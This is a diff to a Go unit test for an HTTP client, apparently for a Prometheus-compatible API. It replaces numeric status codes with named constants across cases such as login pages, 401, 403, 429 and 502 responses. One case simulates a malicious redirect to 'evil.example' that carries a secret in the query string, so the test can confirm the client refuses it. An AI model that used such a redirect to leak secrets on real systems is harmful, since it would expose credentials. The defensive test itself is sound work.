@@ -24,18 +24,18 @@ func TestRefusals(t *testing.T) {
 	}{
 		{"login page", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "<!doctype html><title>Log in</title>") }, "web page", Unreachable},
 		{"empty", func(http.ResponseWriter, *http.Request) {}, "nothing", Unreachable},
-		{"unauthorized", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", 401) }, "--bearer-file", Unreachable},
-		{"tenant", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no org id", 401) }, "--tenant", Unreachable},
-		{"forbidden", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", 403) }, "403", Unreachable},
-		{"no API", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", 404) }, "/prometheus", Unreachable},
-		{"too many", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", 429) }, "429", Slow},
-		{"gateway", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "<html>", 502) }, "502", Slow},
+		{"unauthorized", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", http.StatusUnauthorized) }, "--bearer-file", Unreachable},
+		{"tenant", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no org id", http.StatusUnauthorized) }, "--tenant", Unreachable},
+		{"forbidden", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", http.StatusForbidden) }, "403", Unreachable},
+		{"no API", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", http.StatusNotFound) }, "/prometheus", Unreachable},
+		{"too many", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "no", http.StatusTooManyRequests) }, "429", Slow},
+		{"gateway", func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "<html>", http.StatusBadGateway) }, "502", Slow},
 		{"limit", func(w http.ResponseWriter, _ *http.Request) {
-			w.WriteHeader(422)
+			w.WriteHeader(http.StatusUnprocessableEntity)
 			fmt.Fprint(w, `{"status":"error","errorType":"execution","error":"query processing would load too many samples"}`)
 		}, "too many samples", TooMuch},
 		{"redirect", func(w http.ResponseWriter, r *http.Request) {
-			http.Redirect(w, r, "http://evil.example/?a="+secretWord, 302)
+			http.Redirect(w, r, "http://evil.example/?a="+secretWord, http.StatusFound)
 		}, "http://evil.example", Unreachable},
 		{"huge", func(w http.ResponseWriter, _ *http.Request) {
 			fmt.Fprint(w, `{"status":"success","data":"`)
